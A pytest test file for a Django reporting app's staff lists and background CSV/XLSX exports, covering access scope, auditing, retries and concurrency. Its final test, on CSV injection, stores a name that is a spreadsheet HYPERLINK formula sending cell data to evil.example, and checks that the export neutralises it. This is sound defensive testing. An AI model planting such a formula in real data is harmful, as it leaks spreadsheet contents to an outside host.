"""Everyone in scope as one people list, and exports too big for a request:
queued, built by the task from exactly the screen's rows, mailed as a link,
downloadable only by the person who asked while the unit is in their scope,
deleted when their time is up. Every step audited; tried from the wrong side.

The task bodies run in-process here (the test settings' eager Celery); the
real worker builds one in tests/integration/test_report_export_worker.py. The
link is mailed through the delivery log (`notifications.sender`): a
notification written when the build is done, sent when that commits."""

import csv
import io
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlencode

import pytest
import time_machine
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from notifications import sender
from notifications.models import Notification
from organisation.models import AuditEvent, OrgUnit, StaffProfile
from reports import exports as report_exports
from reports.exports import BUILD_ATTEMPTS, BUILD_LEASE, QUEUED_RESEND_AFTER
from reports.models import ReportExport
from reports.tasks import build_report_export, sweep_report_exports
from tests.core.test_enqueue_once import queued  # noqa: F401 - a fixture
from tests.factories import make_staff
from tests.helpers import add_people, make_report_org

pytestmark = pytest.mark.django_db


@pytest.fixture
def org(catalogue):
    return make_report_org(catalogue)


@pytest.fixture
def hr(db):
    return make_staff("central-hr", hr_role="central")


@pytest.fixture
def small_limits(settings):
    """Anything over 3 rows goes to the background."""
    settings.REPORT_EXPORT_DIRECT_MAX_ROWS = {"csv": 3, "xlsx": 3}
    return settings


def _csv_lines(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _direct(client, url, params, settings):
    """The same export within the request (limits lifted)."""
    limits = settings.REPORT_EXPORT_DIRECT_MAX_ROWS
    settings.REPORT_EXPORT_DIRECT_MAX_ROWS = {"csv": 10**9, "xlsx": 10**9}
    try:
        response = client.get(url, params)
        assert response.status_code == 200
        return b"".join(response.streaming_content)
    finally:
        settings.REPORT_EXPORT_DIRECT_MAX_ROWS = limits


def ask(client, url, params, **kwargs):
    """Ask for an export too big for the request as a person does: the link
    shows a confirmation page, whose button POSTs to the same address."""
    confirm = client.get(url, params)
    assert confirm.status_code == 200
    assert b'data-export-confirm="' in confirm.content
    return client.post(f"{url}?{urlencode(params)}", **kwargs)


def test_everyone_in_scope_on_one_list(client, org, hr):
    add_people(org, org["a1"], 2, "a1-", overdue=True)
    add_people(org, org["a"], 1, "a-", state="completed")
    add_people(org, org["b"], 3, "b-")
    url = reverse("reports:report_people_all")
    client.force_login(hr)
    city = client.get(url)
    assert city.status_code == 200
    assert city.context["page"].paginator.count == 12  # 6 people × 2 courses
    assert "Personer i hela staden" in city.content.decode()
    client.force_login(org["head_a"])
    mine = client.get(url, {"status": "overdue"})
    units = {row["unit"] for row in mine.context["rows"]}
    assert units == {"Enhet A1"} and len(mine.context["rows"]) == 4
    everything = client.get(url)
    assert everything.context["page"].paginator.count == 6  # A and A1, not B
    assert "Personer i alla dina enheter" in everything.content.decode()
    # The overview without a unit links to it.
    top = client.get(reverse("reports:reports"))
    assert f'href="{url}"' in top.content.decode()
    # From the wrong side: a learner has no scope, anonymous must log in.
    client.force_login(make_staff("learner", unit=org["a1"]))
    assert client.get(url).status_code == 403
    assert client.get(url, {"format": "csv"}).status_code == 403
    client.logout()
    assert client.get(url).status_code == 302


def test_a_big_export_is_built_by_the_task_and_equals_the_screen(
    client, org, hr, small_limits, django_capture_on_commit_callbacks
):
    add_people(org, org["a1"], 3, "a1-", overdue=True)
    add_people(org, org["a"], 2, "a-", state="completed")
    hr.email = "hr@example.org"
    hr.save()
    client.force_login(hr)
    url = reverse("reports:report_people", args=[org["a"].pk])
    params = {"sortering": "due"}
    for file_format in ("csv", "xlsx"):
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            response = ask(client, url, {**params, "format": file_format})
        assert response.status_code == 302
        assert response.url == reverse("reports:report_exports")
        # The build, queued on commit (run eagerly), and then its mail,
        # written by the build and sent when the build's work commits.
        assert len(callbacks) == 2
        export = ReportExport.objects.get(format=file_format)
        assert export.state == ReportExport.State.READY
        assert export.rows == 10 and export.unit_id == org["a"].pk
        assert export.query == "sortering=due"
        download = client.get(
            reverse("reports:report_export_download", args=[export.pk])
        )
        assert download.status_code == 200
        assert (
            download["Content-Disposition"]
            == f'attachment; filename="kompetens-A-{export.day}.{file_format}"'
        )
        built = b"".join(download.streaming_content)
        direct = _direct(client, url, {**params, "format": file_format}, small_limits)
        if file_format == "csv":
            # Byte for byte the export made within a request, which the report
            # views' tests compare with the screen.
            assert built == direct
            assert len(_csv_lines(built)) == 11
        else:
            rows = list(load_workbook(io.BytesIO(built)).active.values)
            assert rows == list(load_workbook(io.BytesIO(direct)).active.values)
            assert len(rows) == 11
    # The screen's rows, in the screen's order (all on one page).
    screen = client.get(url, params)
    shown = [[row["last_name"], row["course"]] for row in screen.context["rows"]]
    export = ReportExport.objects.get(format="csv")
    with export.file.open("rb") as handle:
        lines = _csv_lines(handle.read())
    assert [[line[1], line[5]] for line in lines[1:]] == shown
    # One mail per export, with the link and nothing from the rows.
    assert len(mail.outbox) == 2
    message = mail.outbox[0]
    assert message.to == ["hr@example.org"]
    assert message.subject == "Din rapportexport är klar"
    assert "http://testserver/learning/reports/exports/" in message.body or (
        reverse("reports:report_exports") in message.body
    )
    assert "10 rader" in message.body
    assert "E-a1-0" not in message.body and "a1-0" not in message.body
    # Audited: the two requests (with the export's id) and the two downloads.
    events = list(AuditEvent.objects.filter(action="export_report"))
    requested = [e for e in events if e.details.get("rows") == 10]
    downloaded = [e for e in events if e.details.get("downloaded")]
    assert {e.details["export"] for e in requested} == {
        str(pk) for pk in ReportExport.objects.values_list("pk", flat=True)
    }
    assert len(downloaded) == 2 and len(requested) == 2


def test_exports_list_shows_only_ones_own(client, org, hr, small_limits):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people_all"), {"format": "xlsx"})
    mine = ReportExport.objects.get()
    assert mine.state == ReportExport.State.QUEUED  # no on-commit in this test
    assert mine.unit is None and mine.rows == 4
    page = client.get(reverse("reports:report_exports"))
    assert page.context["exports"] == [mine]
    assert "Väntar" in page.content.decode()
    assert "Alla i ditt ansvarsområde" in page.content.decode()
    client.force_login(hr)
    other = client.get(reverse("reports:report_exports"))
    assert other.context["exports"] == []


def test_downloads_from_the_wrong_side(client, org, hr, small_limits):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    assert report_exports.build(export.pk) == "ready"
    url = reverse("reports:report_export_download", args=[export.pk])
    assert client.get(url).status_code == 200
    # Another unit's manager, central HR and a learner: not theirs.
    for user in (org["head_b"], hr, make_staff("learner", unit=org["a1"])):
        client.force_login(user)
        assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 302
    # The person who asked, once the unit is no longer theirs.
    client.force_login(org["head_a"])
    OrgUnit.objects.filter(pk=org["a"].pk).update(head=org["head_b"])
    assert client.get(url).status_code == 404
    downloads = AuditEvent.objects.filter(
        action="export_report", details__downloaded=True
    )
    assert downloads.count() == 1  # only the one that was allowed


def test_the_build_checks_the_scope_again(client, org, small_limits):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    OrgUnit.objects.filter(pk=org["a"].pk).update(head=org["head_b"])
    assert build_report_export(str(export.pk)) == "out of scope"
    export.refresh_from_db()
    assert export.state == ReportExport.State.FAILED and not export.file
    assert export.error == "Enheten ingår inte längre i ditt ansvarsområde."
    assert mail.outbox == []


def test_asking_twice_is_one_export_and_there_is_a_limit(client, org, small_limits):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    url = reverse("reports:report_people", args=[org["a"].pk])
    for _ in range(2):
        ask(client, url, {"format": "csv"})
    assert ReportExport.objects.count() == 1
    assert AuditEvent.objects.filter(action="export_report").count() == 1
    ask(client, url, {"format": "xlsx"})
    ask(client, url, {"format": "csv", "sortering": "unit"})
    assert ReportExport.objects.count() == 3
    response = ask(client, url, {"format": "csv", "sortering": "due"}, follow=True)
    assert ReportExport.objects.count() == 3
    assert "Du har redan 3 exporter som tas fram" in response.content.decode()
    # Small enough: within the request, whatever is waiting.
    small = client.get(
        reverse("reports:report_people", args=[org["a1"].pk]),
        {"format": "csv", "kurs": org["courses"][0].pk},
    )
    assert small.status_code == 200 and len(_csv_lines(small.getvalue())) == 3


def test_a_second_delivery_of_the_task_builds_and_mails_once(
    client, org, small_limits, django_capture_on_commit_callbacks
):
    add_people(org, org["a1"], 2, "a1-")
    org["head_a"].email = "head@example.org"
    org["head_a"].save()
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        assert build_report_export(str(export.pk)) == "ready"
        assert build_report_export(str(export.pk)) == "not queued"
    assert len(mail.outbox) == 1
    notification = Notification.objects.get()
    assert notification.kind == Notification.Kind.REPORT_EXPORT
    assert notification.recipient == org["head_a"]
    assert notification.data == {"export": str(export.pk)}
    assert notification.status == Notification.Status.SENT
    assert mail.outbox[0].extra_headers["Message-ID"] == notification.message_id


def test_the_file_is_in_the_screens_language_the_mail_in_the_persons(
    client, org, small_limits, django_capture_on_commit_callbacks
):
    add_people(org, org["a1"], 2, "a1-")
    head = org["head_a"]
    head.email = "head@example.org"
    head.save()
    StaffProfile.objects.filter(user=head).update(preferred_language="en")
    client.force_login(head)
    # The page in Swedish (the site's default; no language chosen).
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    assert export.language == "sv"
    with django_capture_on_commit_callbacks(execute=True):
        report_exports.build(export.pk)
    export.refresh_from_db()
    assert mail.outbox[0].subject == "Your report export is ready"
    assert "is ready" in mail.outbox[0].body
    with export.file.open("rb") as handle:
        header = _csv_lines(handle.read())[0]
    assert header[:3] == ["Anställningsnummer", "Efternamn", "Förnamn"]


def _given_up_message(export):
    with translation.override(export.language):
        return gettext("The export could not be built. Please ask again.")


def _died_while_building(export, *, attempts, at):
    """What a build's claim writes (`exports._claim`), its worker then killed
    before it finished: running, and no beat after `at`."""
    ReportExport.objects.filter(pk=export.pk).update(
        state=ReportExport.State.RUNNING,
        started_at=at,
        heartbeat_at=at,
        attempts=attempts,
    )


NOTHING = {"expired": 0, "requeued": 0, "resent": 0}


def test_the_sweep_deletes_old_files_and_gives_up_on_builds_that_keep_dying(
    client, org, small_limits
):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    url = reverse("reports:report_people", args=[org["a"].pk])
    ask(client, url, {"format": "csv"})
    ask(client, url, {"format": "xlsx"})
    ready, stuck = ReportExport.objects.order_by("format")
    report_exports.build(ready.pk)
    ready.refresh_from_db()
    path = Path(ready.file.path)
    assert path.exists()
    start = timezone.now()
    _died_while_building(stuck, attempts=BUILD_ATTEMPTS, at=start)
    assert sweep_report_exports() == NOTHING
    with time_machine.travel(start + BUILD_LEASE - timedelta(seconds=5)):
        assert sweep_report_exports() == NOTHING  # it may still be building
    stuck.refresh_from_db()
    assert stuck.state == ReportExport.State.RUNNING
    with time_machine.travel(start + timedelta(hours=25)):
        assert sweep_report_exports() == {**NOTHING, "expired": 1}
    ready.refresh_from_db()
    stuck.refresh_from_db()
    assert ready.state == ReportExport.State.EXPIRED and not ready.file
    assert not path.exists()
    # Built BUILD_ATTEMPTS times, each build's worker lost: given up.
    assert stuck.state == ReportExport.State.FAILED
    assert stuck.attempts == BUILD_ATTEMPTS
    assert stuck.error == _given_up_message(stuck)
    download = reverse("reports:report_export_download", args=[ready.pk])
    assert client.get(download).status_code == 404
    page = client.get(reverse("reports:report_exports")).content.decode()
    assert "Raderad" in page and _given_up_message(stuck) in page


def test_a_build_whose_worker_died_is_queued_again_and_built(
    client, org, small_limits, django_capture_on_commit_callbacks
):
    """A build that stopped beating lost its worker (killed, restarted):
    after BUILD_LEASE it is queued again and built, and the link mailed
    once, while it has had fewer than BUILD_ATTEMPTS builds."""
    add_people(org, org["a1"], 2, "a1-")
    head = org["head_a"]
    head.email = "head@example.org"
    head.save()
    client.force_login(head)
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    start = timezone.now()
    _died_while_building(export, attempts=BUILD_ATTEMPTS - 1, at=start)
    with time_machine.travel(start + BUILD_LEASE - timedelta(seconds=5)):
        assert sweep_report_exports() == NOTHING
    with (
        time_machine.travel(start + BUILD_LEASE + timedelta(seconds=5)),
        django_capture_on_commit_callbacks(execute=True),
    ):
        # Queued again, and the build sent at once (run eagerly here).
        assert sweep_report_exports() == {**NOTHING, "requeued": 1, "resent": 1}
    export.refresh_from_db()
    assert export.state == ReportExport.State.READY
    assert export.attempts == BUILD_ATTEMPTS and export.rows == 4
    assert export.error == ""
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["head@example.org"]


def test_a_long_build_beats_and_is_not_taken_for_dead(
    client, org, small_limits, monkeypatch
):
    """The build writes heartbeat_at every ITERATOR_CHUNK rows (2 here), so a
    build longer than BUILD_LEASE whose rows keep coming is left alone by the
    sweep (one that stopped beating is not: the test above)."""
    monkeypatch.setattr(report_exports, "ITERATOR_CHUNK", 2)
    add_people(org, org["a1"], 4, "a1-")  # 8 rows in unit A
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    writing = report_exports.csv_chunks
    row_time = BUILD_LEASE * 0.4  # a beat every 2 rows: 0.8 of the lease
    seen, swept = [], []

    def slow_rows(rows):
        """Each row takes `row_time`; the heartbeat stored as each comes."""
        for row in rows:
            traveller.shift(row_time)
            seen.append(
                ReportExport.objects.values_list("heartbeat_at", flat=True).get(
                    pk=export.pk
                )
            )
            if len(seen) == 6:  # 2.4 leases since the build began
                swept.append(report_exports.sweep())
            yield row

    monkeypatch.setattr(
        report_exports, "csv_chunks", lambda rows: writing(slow_rows(rows))
    )
    with time_machine.travel(timezone.now(), tick=False) as traveller:
        began = timezone.now()
        assert report_exports.build(export.pk) == "ready"
    assert len(seen) == 8
    # Row n left the database (and beat, if n is even) after n - 1 rows'
    # time; what each row saw is the claim's heartbeat, then the last even
    # row's.
    last_beat = [n - n % 2 for n in range(1, 9)]
    assert seen == [began + row_time * (row - 1) if row else began for row in last_beat]
    assert swept == [NOTHING]
    export.refresh_from_db()
    assert export.state == ReportExport.State.READY and export.attempts == 1


def test_a_queued_export_whose_task_was_lost_is_sent_again(
    client, org, small_limits, django_capture_on_commit_callbacks
):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    assert export.state == ReportExport.State.QUEUED  # its task never ran
    with time_machine.travel(
        timezone.now() + QUEUED_RESEND_AFTER + timedelta(seconds=1)
    ):
        assert sweep_report_exports() == {**NOTHING, "resent": 1}
    export.refresh_from_db()
    assert export.state == ReportExport.State.READY  # the eager task built it


def test_a_queued_export_is_sent_again_once_per_lease(
    client,
    org,
    small_limits,
    queued,  # noqa: F811 - the broker fixture
):
    """Against the real broker with no worker, the task stays in the queue:
    the sweep every minute sends it again once per QUEUED_RESEND_AFTER, not
    every minute (a queue that waits for a busy worker does not fill with
    copies)."""
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    asked = export.created_at
    with time_machine.travel(asked + QUEUED_RESEND_AFTER - timedelta(seconds=5)):
        assert sweep_report_exports() == NOTHING  # its own task may be waiting
    with time_machine.travel(asked + QUEUED_RESEND_AFTER + timedelta(seconds=5)):
        assert sweep_report_exports() == {**NOTHING, "resent": 1}
    for minute in (1, 2):
        with time_machine.travel(
            asked + QUEUED_RESEND_AFTER + timedelta(minutes=minute)
        ):
            assert sweep_report_exports() == NOTHING
    assert queued("reports.build_report_export") == [[str(export.pk)]]
    with time_machine.travel(asked + 2 * QUEUED_RESEND_AFTER + timedelta(seconds=10)):
        assert sweep_report_exports() == {**NOTHING, "resent": 1}
    assert queued("reports.build_report_export") == [[str(export.pk)]] * 2
    export.refresh_from_db()
    assert export.state == ReportExport.State.QUEUED


def test_exports_page_queries_do_not_grow(
    client, org, small_limits, django_assert_max_num_queries
):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    url = reverse("reports:report_people", args=[org["a"].pk])
    for params in ({}, {"sortering": "unit"}, {"sortering": "due"}):
        ask(client, url, {**params, "format": "csv"})
    # Session, user, the exports with their units (one query); the rest is
    # the base template's navigation, as on every page.
    with django_assert_max_num_queries(11):
        page = client.get(reverse("reports:report_exports"))
    assert len(page.context["exports"]) == 3


@pytest.mark.parametrize("people", [2, 20])
def test_everyone_in_scope_queries_do_not_grow(
    client, org, hr, people, django_assert_max_num_queries
):
    add_people(org, org["a1"], people, "a1-")
    add_people(org, org["b"], people, "b-")
    client.force_login(hr)
    # As a unit's list, less the unit: the courses and the number of rows in
    # one query, their titles, the page of rows, the audit row.
    with django_assert_max_num_queries(12):
        response = client.get(reverse("reports:report_people_all"))
    assert response.context["page"].paginator.count == people * 2 * 2


def test_a_broker_that_is_down_does_not_break_the_request(
    client, org, small_limits, django_capture_on_commit_callbacks, monkeypatch
):
    """The broker refusing the task is a fault Redis cannot be made to give
    on demand here, so `delay` is replaced by one that raises."""
    from reports.tasks import build_report_export as task

    def refused(*args, **kwargs):
        raise ConnectionError("broker down")

    monkeypatch.setattr(task, "delay", refused)
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    with django_capture_on_commit_callbacks(execute=True):
        response = ask(
            client,
            reverse("reports:report_people", args=[org["a"].pk]),
            {"format": "csv"},
        )
    assert response.status_code == 302
    export = ReportExport.objects.get()
    assert export.state == ReportExport.State.QUEUED  # the sweep sends it again


def test_a_link_alone_queues_nothing(client, org, small_limits):
    """Followed by a prefetcher or from another site, the export link only
    shows the confirmation; the POST needs the CSRF token."""
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    url = reverse("reports:report_people", args=[org["a"].pk])
    page = client.get(url, {"format": "xlsx", "sortering": "due", "sida": "1"})
    assert page.status_code == 200 and ReportExport.objects.count() == 0
    assert "har 4 rader" in page.content.decode()
    assert f'href="{url}?sortering=due&amp;sida=1"' in page.content.decode()
    assert not AuditEvent.objects.filter(action="export_report").exists()
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(org["head_a"])
    assert strict.post(f"{url}?format=xlsx").status_code == 403
    assert ReportExport.objects.count() == 0


def test_an_export_of_everyone_needs_all_of_its_scope_at_download(
    client, org, small_limits
):
    add_people(org, org["a1"], 2, "a1-")
    add_people(org, org["b"], 2, "b-")
    head = org["head_a"]
    OrgUnit.objects.filter(pk=org["b"].pk).update(head=head)  # A and B
    client.force_login(head)
    ask(client, reverse("reports:report_people_all"), {"format": "csv"})
    export = ReportExport.objects.get()
    assert report_exports.build(export.pk) == "ready"
    export.refresh_from_db()
    assert sorted(export.scope_paths) == sorted(
        OrgUnit.objects.filter(pk__in=[org["a"].pk, org["b"].pk]).values_list(
            "path", flat=True
        )
    )
    assert export.rows == 8
    url = reverse("reports:report_export_download", args=[export.pk])
    assert client.get(url).status_code == 200
    OrgUnit.objects.filter(pk=org["b"].pk).update(head=org["head_b"])  # B gone
    assert client.get(url).status_code == 404  # it holds B's people


def test_deleting_the_unit_deletes_the_file(
    client, org, small_limits, django_capture_on_commit_callbacks
):
    add_people(org, org["a1"], 2, "a1-")
    client.force_login(org["head_a"])
    ask(
        client,
        reverse("reports:report_people", args=[org["a1"].pk]),
        {"format": "csv"},
    )
    export = ReportExport.objects.get()
    report_exports.build(export.pk)
    export.refresh_from_db()
    path = Path(export.file.path)
    assert path.exists()
    with django_capture_on_commit_callbacks(execute=True):
        OrgUnit.objects.get(pk=org["a1"].pk).staff.update(unit=None)
        OrgUnit.objects.get(pk=org["a1"].pk).delete()
    assert not ReportExport.objects.exists()
    assert not path.exists()


def test_a_link_to_an_export_deleted_meanwhile_is_not_sent(client, org, small_limits):
    """The mail waited (the relay was down, the worker busy) until the file
    was deleted: composed when it is sent, it has nothing to link to, and
    is recorded as not sent rather than sent with a dead link."""
    add_people(org, org["a1"], 2, "a1-")
    head = org["head_a"]
    head.email = "head@example.org"
    head.save()
    client.force_login(head)
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    assert report_exports.build(export.pk) == "ready"  # its on-commit send lost
    notification = Notification.objects.get(kind=Notification.Kind.REPORT_EXPORT)
    assert notification.data == {"export": str(export.pk)}
    with time_machine.travel(timezone.now() + timedelta(hours=25)):
        assert sweep_report_exports() == {**NOTHING, "expired": 1}
        assert sender.send_messages([notification.pk]) == {"not sent": 1}
    notification.refresh_from_db()
    assert notification.status == Notification.Status.NOT_SENT
    assert mail.outbox == []


@pytest.mark.integration
def test_a_link_the_relay_could_not_take_is_sent_later_once(
    client, org, small_limits, smtp, django_capture_on_commit_callbacks
):
    """The relay is down when the build is done: the export is ready all the
    same, and the delivery log tries the link again after its backoff, once."""
    add_people(org, org["a1"], 2, "a1-")
    head = org["head_a"]
    head.email = "head@example.org"
    head.save()
    client.force_login(head)
    ask(client, reverse("reports:report_people", args=[org["a"].pk]), {"format": "csv"})
    export = ReportExport.objects.get()
    smtp.stop()
    with django_capture_on_commit_callbacks(execute=True):
        assert build_report_export(str(export.pk)) == "ready"
    export.refresh_from_db()
    assert export.state == ReportExport.State.READY
    notification = Notification.objects.get(kind=Notification.Kind.REPORT_EXPORT)
    assert notification.status == Notification.Status.PENDING
    assert notification.next_attempt_at is not None and notification.attempts == 1
    assert "Connection" in notification.last_error
    smtp.start_again()
    with time_machine.travel(notification.next_attempt_at + timedelta(seconds=1)):
        assert sender.hand_out() == 1
        assert sender.hand_out() == 0
    (received,) = smtp.messages
    message = received.parsed()
    assert message["To"] == "head@example.org"
    assert message["Subject"] == "Din rapportexport är klar"
    assert message["Message-ID"] == notification.message_id
    notification.refresh_from_db()
    assert notification.status == Notification.Status.SENT
    assert notification.attempts == 2


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_two_clicks_at_the_same_moment_queue_one_export(catalogue, monkeypatch):
    """Threads on PostgreSQL: both requests find nothing pending at the same
    moment unless the person's row serializes them."""
    import threading
    import time

    from django.db import connection
    from django.test import RequestFactory

    monkeypatch.setattr(report_exports, "_enqueue", lambda export_id: None)
    # Widen the window between looking for a pending export and adding one.
    create = ReportExport.objects.create

    def slow_create(**kwargs):
        time.sleep(0.5)
        return create(**kwargs)

    monkeypatch.setattr(ReportExport.objects, "create", slow_create)
    org = make_report_org(catalogue)
    unit = OrgUnit.objects.get(pk=org["a"].pk)
    barrier = threading.Barrier(2)
    outcomes = []

    def click():
        try:
            request = RequestFactory().get("/", {"format": "csv", "sortering": "due"})
            request.user = org["head_a"]
            barrier.wait(timeout=10)
            outcomes.append(report_exports.request_export(request, unit, "csv", 9))
        except Exception as error:  # noqa: BLE001 - recorded for the assertion
            outcomes.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=click) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    assert len(outcomes) == 2, outcomes
    assert sorted(created for _export, created in outcomes) == [False, True]
    assert ReportExport.objects.count() == 1
    assert outcomes[0][0].pk == outcomes[1][0].pk


def test_a_direct_report_moved_away_during_the_build_is_not_downloadable_after(
    client, catalogue, settings, monkeypatch, django_capture_on_commit_callbacks
):
    """The build reads who the direct reports are once: the file's rows and
    what the download is checked against name the same people. Someone moved
    to another manager while the file was written is in the file, so the
    file is no longer the manager's to fetch."""
    settings.REPORT_EXPORT_DIRECT_MAX_ROWS = {"csv": 1, "xlsx": 1}
    org = make_report_org(catalogue)
    add_people(org, org["a1"], 1, "mine-")
    (report,) = add_people(org, org["b"], 1, "report-")  # not in head_a's units
    StaffProfile.objects.filter(user=report).update(line_manager=org["head_a"])
    writing = report_exports.csv_chunks

    def moved_while_writing(rows):
        yield from writing(rows)
        StaffProfile.objects.filter(user=report).update(line_manager=None)

    monkeypatch.setattr(report_exports, "csv_chunks", moved_while_writing)
    client.force_login(org["head_a"])
    url = reverse("reports:report_people_all")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"{url}?format=csv")
    export = ReportExport.objects.get()
    assert export.state == ReportExport.State.READY
    assert export.scope_people == [report.pk]
    with export.file.open("rb") as handle:
        assert b"E-report-0" in handle.read()
    download = client.get(reverse("reports:report_export_download", args=[export.pk]))
    assert download.status_code == 404


def test_names_that_look_like_formulas_are_text_in_both_exports(
    client, catalogue, settings
):
    """OWASP's CSV injection: a name beginning with = + - @ must not become a
    live formula when HR opens the export (an apostrophe in the CSV, a text
    cell in the XLSX)."""
    org = make_report_org(catalogue)
    (person,) = add_people(org, org["a1"], 1, "p")
    person.first_name = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
    person.last_name = "@SUM(1+1)"
    person.save()
    client.force_login(org["head_a"])
    url = reverse("reports:report_people", args=[org["a"].pk])
    csv_text = b"".join(client.get(url, {"format": "csv"}).streaming_content).decode(
        "utf-8-sig"
    )
    cells = list(csv.reader(io.StringIO(csv_text), delimiter=";"))[1]
    assert "'@SUM(1+1)" in cells
    assert '\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")' in cells
    book = load_workbook(
        io.BytesIO(b"".join(client.get(url, {"format": "xlsx"}))), read_only=False
    )
    sheet = book.active
    texts = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert texts["@SUM(1+1)"] == "s"
    assert texts[person.first_name] == "s"  # stored as text, never a formula
    assert not any(kind == "f" for kind in texts.values())
